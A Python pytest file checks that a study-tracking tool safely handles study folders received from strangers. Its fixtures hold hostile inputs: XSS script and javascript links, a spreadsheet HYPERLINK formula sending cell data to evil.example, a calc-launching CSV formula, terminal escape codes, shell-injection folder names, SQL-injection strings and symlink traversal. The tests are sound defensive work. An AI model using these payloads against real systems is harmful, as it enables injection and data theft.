"""What somebody else puts into a study folder does no harm when its receiver runs commands on it."""

import contextlib
import csv
import io
import json
import os
import shlex
import tarfile
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from types import SimpleNamespace

import pytest

from analysis.load import open_study
from analysis.opened import Study
from analysis.report import make_report, write
from analysis.status import read_status
from study.cli.display import show
from study.cli.results import folder_of_experiment, report
from study.cli.sync import sync_study
from study.console import SteadyConsole
from study.designs.holdup import export
from study.designs.holdup.certificate import make_certificate, verify
from study.driver.opening import RunOptions, new_identity, resumed_identity
from study.errors import RecordError, StudyError, TrackingError
from study.evaluating.playing import ChosenPolicy, evaluate_policy, find_policy, random_policy
from study.harmless import csv_cell, markdown, mask_credentials, printable
from study.mirrors.tracking_uri import ask_mlflow, asked_uri
from study.records.derived import pack, write_table
from study.records.files import write_atomically
from study.records.folder import StudyFolder
from study.records.ledger import ledger_of
from study.records.records import TrialEnded
from tests.spaces import spec
from tests.synthetic import append, closed, make_folder, opened, started, whole_trial
from tests.values import replace

SCRIPT = "<script>alert(1)</script>"
LINK = "[click](javascript:alert(1))"
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe"
REASON = f"{FORMULA} {SCRIPT} {LINK} | {ESCAPES}\nVerdict: it holds up"
TOKEN = "PLANTED-token"


@pytest.fixture
def study(tmp_path) -> StudyFolder:
    """A study of this user's, with a trial that ended well and one that failed for a malicious reason."""
    folder = make_folder(tmp_path / "studies" / "demo", f"sqlite:///{tmp_path}/mlflow.db")
    failed = TrialEnded(trial=1, attempt=1, status="failed", reason=REASON, summary={}, checkpoint=None)
    append(folder, opened(), *whole_trial(0), started(1), failed, closed())
    write_table(folder.table, ledger_of(folder.records).rows.values())
    return folder


@pytest.fixture
def received(study, tmp_path) -> StudyFolder:
    """The same study as somebody gets it who unpacks an archive: all of its files belong to them."""
    with tarfile.open(tmp_path / "study.tar", "w") as archive:
        archive.add(study.path, "received")
    with tarfile.open(tmp_path / "study.tar") as archive:
        archive.extractall(tmp_path)
    return StudyFolder(tmp_path / "received")


class Host:
    """A web server that notes who asks it for what; it answers nothing useful, or redirects."""

    def __init__(self, redirect_to: str | None = None) -> None:
        self.asked = asked = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(307 if redirect_to else 404)
                self.send_header("Location", f"{redirect_to}{self.path}")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_GET  # noqa: N815 (the name that http.server asks for)
            log_message = print

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.uri = f"http://127.0.0.1:{self._server.server_port}"
        Thread(target=self._server.serve_forever, args=(0.01,), daemon=True).start()

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def stranger(monkeypatch):
    """A stranger's server, while this user's environment holds a token."""
    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", TOKEN)
    host = Host()
    yield host
    host.stop()


def renamed(folder: StudyFolder, **changes: object) -> None:
    content = json.loads(folder.identity_file.read_text())
    folder.identity_file.write_text(json.dumps(content | changes))


# --- folders that no command takes -----------------------------------------------------------------------------------

COMMANDS = {
    "report": lambda folder: report(str(folder.path), format_="csv"),
    "pack": lambda folder: pack(folder, folder.path.parent / "packed"),
    "sync": lambda folder: list(sync_study(folder)),
    "status": lambda folder: read_status(folder.path),
    "certificate": make_certificate,
    "verify": lambda folder: verify(folder.path),
    "export": lambda folder: export.export_yaml(folder, 10),
    "evaluate": lambda folder: evaluate_policy(find_policy(folder.path, 0)),
    "random": lambda folder: evaluate_policy(random_policy(folder.path)),
    "open_study": lambda folder: open_study(folder.path),
    "resume": lambda folder: resumed_identity(folder, spec(), RunOptions(name="demo", out=folder.path.parent)),
    "identity": lambda folder: folder.identity(),
}


def link_at(place):
    def make(folder, outside, _):
        (folder.path / place).parent.mkdir(exist_ok=True)
        (folder.path / place).unlink(missing_ok=True)
        (folder.path / place).symlink_to(outside)

    return make


def pipe(folder, *_):
    (folder.path / "clips").mkdir()
    os.mkfifo(folder.path / "clips" / "best.json")


def open_to_others(folder, outside, uri):
    module("elsewhere:Env")(folder)
    renamed(folder, tracking_uri=uri)
    folder.table.chmod(0o666)


def module(name):
    """Let a folder name an environment in a module, and hold one of that name."""

    def make(folder, *_):
        space = json.loads(folder.identity_file.read_text())["spec"]
        space["environment"]["id"] = name.format(folder=folder.path.name)
        renamed(folder, spec=space)
        (folder.path / "attack.py").write_text("raise SystemExit('the module ran')")

    return make


ODD_NAMES = [{"name": name} for name in ("..", "a/b", "x; touch PWN", "-rf", "a\n", "a" * 101)]
ODD_NAMES += [{"study_id": value} for value in ("", "x' or '1'='1", "../x")]
REFUSED = [
    (link_at("space.yaml"), set(COMMANDS) - {"identity", "random"}, r"got a symbolic link\. Fix: Remove it"),
    (link_at("report/tables"), {"report"}, "got a symbolic link"),
    (link_at(".mlflow-mirror.lock"), {"status"}, "got a symbolic link"),
    (pipe, {"status", "resume"}, "must be a file or a folder, got a pipe"),
    (open_to_others, {"sync", "random"}, r"trials\.csv: must not be writable by others"),
    (module("attack:Env"), {"evaluate", "random"}, "code that lies in a study's folder is not run, got"),
    (module("{folder}.attack:Env"), {"evaluate", "random"}, "code that lies in a study's folder is not run, got"),
    *(
        (lambda folder, *_, odd=odd: renamed(folder, **odd), {"identity"}, r"must be a study's identity, got a damaged")
        for odd in ODD_NAMES
    ),
]


@pytest.mark.parametrize(
    ("make", "command", "match"), [(make, each, match) for make, some, match in REFUSED for each in sorted(some)]
)
def test_a_folder_that_would_lead_elsewhere_is_refused_before_anything_is_read_sent_or_run(
    received, stranger, tmp_path, monkeypatch, make, command, match
):
    outside = tmp_path / "outside"
    outside.write_text("private")
    make(received, outside, stranger.uri)
    if "code that lies" in match:
        monkeypatch.chdir(tmp_path)
        for place in (received.path, tmp_path):
            monkeypatch.syspath_prepend(place)
        monkeypatch.setattr("study.evaluating.playing.ChosenPolicy.check_owner", lambda self: None)
    with pytest.raises(RecordError, match=match):
        COMMANDS[command](received)
    assert outside.read_text() == "private"
    assert not (tmp_path / "packed").exists()
    assert stranger.asked == []


@pytest.mark.parametrize("command", ["report", "status", "pack", "evaluate"])
def test_a_server_that_only_a_folder_names_is_not_contacted(received, stranger, command):
    renamed(received, tracking_uri=stranger.uri, optuna_storage="postgresql://x@127.0.0.1:1/x")
    with contextlib.nullcontext() if command != "evaluate" else pytest.raises(StudyError):
        COMMANDS[command](received)
    assert stranger.asked == []


def test_the_person_s_own_links_to_a_study_or_an_output_folder_are_followed(study, tmp_path):
    (tmp_path / "way").symlink_to(study.path)
    (tmp_path / "big").mkdir()
    (tmp_path / "out").symlink_to(tmp_path / "big")
    report(str(tmp_path / "way"), format_="csv", out=tmp_path / "out")
    assert list((tmp_path / "big" / "tables").iterdir())


def test_writing_replaces_a_link_and_a_new_study_does_not_write_through_one(tmp_path):
    outside, folder = tmp_path / "outside", StudyFolder(tmp_path / "n")
    outside.write_text("private")
    (tmp_path / "file").symlink_to(outside)
    write_atomically(tmp_path / "file", "new")
    assert (tmp_path / "file").read_text() == "new"
    folder.path.mkdir()
    folder.space_file.symlink_to(outside)
    with pytest.raises(RecordError, match="symbolic link"):
        folder.prepare()
    assert outside.read_text() == "private"


def test_a_report_replaces_a_link_below_its_folder(study, tmp_path):
    outside, out = tmp_path / ".bashrc", tmp_path / "out"
    outside.write_text("mine")
    out.mkdir()
    (out / "report.html").symlink_to(outside)
    write(make_report(Study(open_study(study.path))), out)
    assert outside.read_text() == "mine"
    assert "<html" in (out / "report.html").read_text()


def test_a_policy_whose_folder_holds_links_is_not_loaded(study, tmp_path):
    checkpoint = study.checkpoint(0)
    (checkpoint / "inner").mkdir(parents=True)
    (checkpoint / "policy.msgpack").write_text("")
    (checkpoint / "inner" / "deep").symlink_to(tmp_path)
    with pytest.raises(RecordError, match="symbolic link"):
        ChosenPolicy(title="", spec=spec(), study=study, row=SimpleNamespace(trial=0)).check_owner()


def test_a_script_in_a_study_s_folder_is_not_run(study, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for config in ("studies/demo/my_train.py:make", str(study.path / "lib" / "my_train.py"), "studies.demo.train:make"):
        with pytest.raises(RecordError, match="code that lies in a study's folder is not run"):
            study.check_code([config])
    study.check_code(["my_train.py", "my_module:Env", "studies/other/my_train.py"])


# --- whom MLflow's credentials and a study's results go to ------------------------------------------------------------


def test_the_variable_of_mlflow_s_users_is_the_default(monkeypatch, tmp_path):
    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path}/theirs.db")
    options = RunOptions(name="demo")
    assert new_identity(spec(), options).tracking_uri == f"sqlite:///{tmp_path}/theirs.db"
    assert asked_uri("sqlite:///named.db") == "sqlite:///named.db"
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "./mlruns")
    with pytest.raises(TrackingError, match=r"must begin with one of"):
        new_identity(spec(), options)


@pytest.mark.parametrize("named", [None, "MLFLOW_TRACKING_URI"])
def test_one_s_own_study_goes_on_in_its_own_mlflow(study, monkeypatch, named):
    if named:
        monkeypatch.setenv(named, "sqlite:///another.db")
    assert resumed_identity(study, spec(), RunOptions(name="demo", resume=True)) == study.identity()


def test_a_resume_goes_on_in_another_mlflow_where_the_person_names_one(received, tmp_path):
    uri = f"sqlite:///{tmp_path}/mine.db"
    options = RunOptions(name="demo", resume=True, tracking_uri=uri)
    identity = resumed_identity(received, spec(), options)
    assert identity == replace(received.identity(), tracking_uri=uri)
    received.write(identity, options.space_text)
    assert received.identity() == identity


def test_mlflow_s_client_takes_no_credentials_to_another_host(stranger):
    host = Host(redirect_to=stranger.uri)  # the one that the person named
    with pytest.raises(TrackingError, match="It is a redirect, which is not followed"):
        ask_mlflow(host.uri)
    host.stop()
    assert (len(host.asked), stranger.asked) == (1, [])


# --- what is printed and written (attacks 6 and 8 to 11) --------------------------------------------------------------


def test_no_escape_code_of_a_record_reaches_the_terminal(study):
    file = io.StringIO()
    console = SteadyConsole(file=file, force_terminal=True, width=300, color_system=None)
    show(console, read_status(study.path))
    text = file.getvalue()
    assert "HYPERLINK" in text, "the reason is not shown at all"
    assert printable(text) == text
    assert "\nVerdict" not in text, "a reason looks like a line of ours"
    console.print(f"[link=http://evil.example]x[/link] {ESCAPES}", style="bold", highlight=False)
    said = file.getvalue().removeprefix(text)
    assert "[link=http://evil.example]x[/link]" in said
    assert not any(mark in said for mark in ("\x1b]", "\x1b[2J", "\x9b", "\x07", "\u202e"))


def test_a_report_holds_no_script_no_link_and_no_formula_of_a_record(study, tmp_path):
    files = write(make_report(Study(open_study(study.path))), tmp_path / "out")
    for file in files:
        if file.suffix in (".html", ".svg"):
            text = file.read_text()
            assert "<script" not in text
            assert printable(text) == text
    for file in (each for each in files if each.suffix == ".csv"):
        lines = file.read_text().splitlines()
        for row in csv.reader(lines):
            assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in row), file
    assert any("&lt;script" in file.read_text() for file in files if file.suffix == ".html"), (
        "the reason is in no table"
    )


@pytest.mark.parametrize(
    "text", [SCRIPT, "<img src=x onerror=y>", "<!--", "<http://evil.example>", LINK, "![x](http://e)", "[a]: http://e"]
)
def test_markdown_shows_tags_and_links_as_they_are_written(text):
    shown = markdown(f"\\{text}")
    assert "<" not in shown
    assert not any(mark in shown for mark in ("](", "]:"))
    assert markdown("n < 5, 0.9 [0.8, 1.0] (n=3)") == "n < 5, 0.9 [0.8, 1.0] (n=3)"


def test_a_suggested_command_is_one_command_whatever_a_folder_is_called(tmp_path):
    folder = make_folder(tmp_path / "x'; touch PWN", f"sqlite:///{tmp_path}/mlflow.db")
    append(folder, opened(), *whole_trial(0), started(1))
    commands = [shlex.split(each.command) for each in read_status(folder.path).advice if each.command]
    commands += [shlex.split(fact.command) for fact in Study(open_study(folder.path)).findings if fact.command]
    named = [words for words in commands if "PWN" in str(words)]
    assert named
    for words in named:
        assert words[0] == "python"
        assert any(word == folder.path.name or word.startswith(str(folder.path)) for word in words), words


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "a;=1"])
def test_no_cell_begins_with_a_formula_in_any_locale(text):
    for part in csv_cell(text).replace("\t", ";").replace("\r", ";").split(";"):
        assert part[:1] not in ("=", "+", "-", "@", "\uff1d")


def test_numbers_stay_numbers_and_the_table_of_trials_holds_no_formula(study):
    numbers = ["-88.9", "1e-05", "-inf", "nan", "+3", "0"]
    assert [csv_cell(number) for number in numbers] == numbers
    assert "\n=" not in study.table.read_text().replace(",", "\n")


MASKED = {
    "http://user:p@ss@host/x": "http://***@host/x",
    "'postgresql://me:p/w@h/d' and 'postgresql://me:pw@h'": "'postgresql://***@h/d' and 'postgresql://***@h'",
    "postgresql://u:p/w@h/db?sslpassword=abc&x=1": "postgresql://***@h/db?sslpassword=***&x=1",
    "Driver=x;PWD={my;secret};Y=2": "Driver=x;PWD=***;Y=2",
    "mssql:///?odbc_connect=UID%3Dme%3BPWD%3Dabc%3BX%3D1": "mssql:///?odbc_connect=UID%3Dme%3BPWD%3D***%3BX%3D1",
    "host=h user=u password='a b' dbname=x": "host=h user=u password=*** dbname=x",
    "MLFLOW_TRACKING_TOKEN=abc run": "MLFLOW_TRACKING_TOKEN=*** run",
    "--api-token\t\tsecret --password 'a b' -n 2": "--api-token\t\t*** --password *** -n 2",
    "--config-args '--hf_token secret'": "--config-args '--hf_token ***'",
    f"--api-token '{'x' * 300}' -n 2": "--api-token *** -n 2",
    r'--password "a\"b c" -n 2': "--password *** -n 2",
    '{"password": "x y"}': '{"password": ***}',
    "kwargs={api_token: 'it''s', w: {api_key: [a b, c], n: 2}}": "kwargs={api_token: ***, w: {api_key: ***, n: 2}}",
    "Authorization: Bearer abcdefgh12345678": "Authorization: ***",
    "refused (Bearer abcdefgh12345678)": "refused (Bearer ***)",
    "https://h.blob.example/c?sv=1&sig=ab%2B1&se=2": "https://h.blob.example/c?sv=1&sig=***&se=2",
    "AccountName=me;AccountKey=abc==;X=1": "AccountName=me;AccountKey=***;X=1",
    "GET /x\nX-Api-Key: k1\nCookie: s=a b\nAccept: */*": "GET /x\nX-Api-Key: ***\nCookie: ***\nAccept: */*",
    "  password: pw\n  user: me": "  password: ***\n  user: me",
}
SHOWN = (
    "http://host:5000/a@b",
    "--max-tokens 100 --bypass 3 --pass --verbose --pad-token 0 --first-pass 12",
    "--tokenizer=bpe bypass=on max_passengers=3",
    "{n: 2, pad_token: 0}: password: none",
    "sqlite:////home/me@site/mlflow.db",
)


@pytest.mark.parametrize(("text", "shown"), [*MASKED.items(), *zip(SHOWN, SHOWN, strict=True)])
def test_passwords_and_tokens_are_masked_and_nothing_else(text, shown):
    assert mask_credentials(text) == shown


@pytest.mark.parametrize(
    "part", ["postgres://", "://a@", "?password=", 'password="', "PWD={", "a=", "--token '", "{token: ["]
)
def test_masking_takes_a_time_that_grows_with_the_text_and_no_faster(part):
    text = part * (500_000 // len(part))
    began = time.process_time()
    mask_credentials(text)
    assert time.process_time() - began < 10, "quadratic: hours, or minutes at least"


@pytest.mark.parametrize("name", ["..", ".", "-x", "a/../..", "~"])
def test_a_report_of_an_experiment_stays_in_its_folder_whatever_it_is_called(name):
    out = folder_of_experiment(name)
    assert out.parent.parent.as_posix() == "studies"
    assert ".." not in out.parts
    assert out.parent.name not in ("", ".", "..")
